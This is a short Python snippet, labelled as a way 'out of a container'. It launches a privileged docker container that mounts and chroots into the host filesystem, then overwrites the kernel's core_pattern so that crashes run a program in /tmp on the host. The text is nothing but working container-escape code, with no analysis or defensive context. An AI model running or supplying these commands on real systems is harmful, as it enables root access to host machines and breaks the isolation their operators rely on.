# out of a container
import os
os.system("docker run --rm -v /:/host --privileged alpine chroot /host sh -c 'id'")
open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
